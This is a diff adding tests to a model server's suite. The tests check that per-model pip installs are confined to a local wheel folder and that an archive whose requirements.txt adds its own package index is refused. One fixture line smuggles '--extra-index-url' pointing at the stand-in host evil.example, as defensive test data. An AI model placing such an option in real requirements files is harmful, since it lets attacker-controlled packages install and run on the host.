@@ -49,6 +49,7 @@ def test_the_requirements_are_installed_for_the_models_workers(store: Path, tmp_
     assert response.json()["value"] == VALUE
     assert "/packaged-packages-" in response.json()["file"]  # its own folder, not the server's
     assert "model packaged: installing its packages from requirements.txt" in log
+    assert "installed with pip, which allowed_urls does not restrict" in log  # at start-up
 
 
 def test_an_install_that_fails_refuses_the_registration_with_pips_reason(
@@ -92,3 +93,37 @@ def test_a_start_up_model_whose_install_fails_is_skipped(
         log = server.log()
     assert names == ["packaged"]
     assert "model unreachable not loaded: Custom pip package installation failed" in log
+
+
+def test_pip_find_links_holds_pip_to_a_local_folder(store: Path, tmp_path: Path) -> None:
+    """With ``pip_find_links`` (and no index), a requirement by name is installed from the
+    folder, and an archive whose file names an index of its own is refused before pip
+    runs. Nothing here can reach a network: pip gets ``--no-index``."""
+    wheels = tmp_path / "wheels"
+    wheels.mkdir()
+    write_wheel(wheels)
+    _archive(store, "by_name", "ferry_demo_dep==1.0")
+    _archive(store, "own_index", "ferry_demo_dep\n--extra-index-url https://evil.example/simple")
+    args = ("--enable-model-api", "--install-py-dep-per-model", "true")
+    restriction = ("--pip-find-links", str(wheels))
+    with (
+        ferry_server(store, [], tmp_path, *args, *restriction) as server,
+        server.management() as api,
+    ):
+        params = {"url": "by_name.mar", "synchronous": "true", "initial_workers": "1"}
+        registered = api.post("/models", params=params)
+        assert registered.status_code == 200, registered.text
+        with server.client() as client:
+            answer = client.post("/predictions/by_name", content=b"x")
+        refused = api.post("/models", params={"url": "own_index.mar", "synchronous": "true"})
+        log = server.log()
+    assert answer.status_code == 200, log
+    assert answer.json()["value"] == VALUE
+    assert f"from the folder {wheels} only" in log
+    assert refused.status_code == 400, refused.text
+    assert refused.json()["type"] == "ModelException"
+    assert refused.json()["message"] == (
+        "model own_index: requirements.txt line 2: the option --extra-index-url is refused: "
+        "pip_index_url / pip_find_links restrict where pip installs from, and the archive "
+        "cannot change that"
+    )
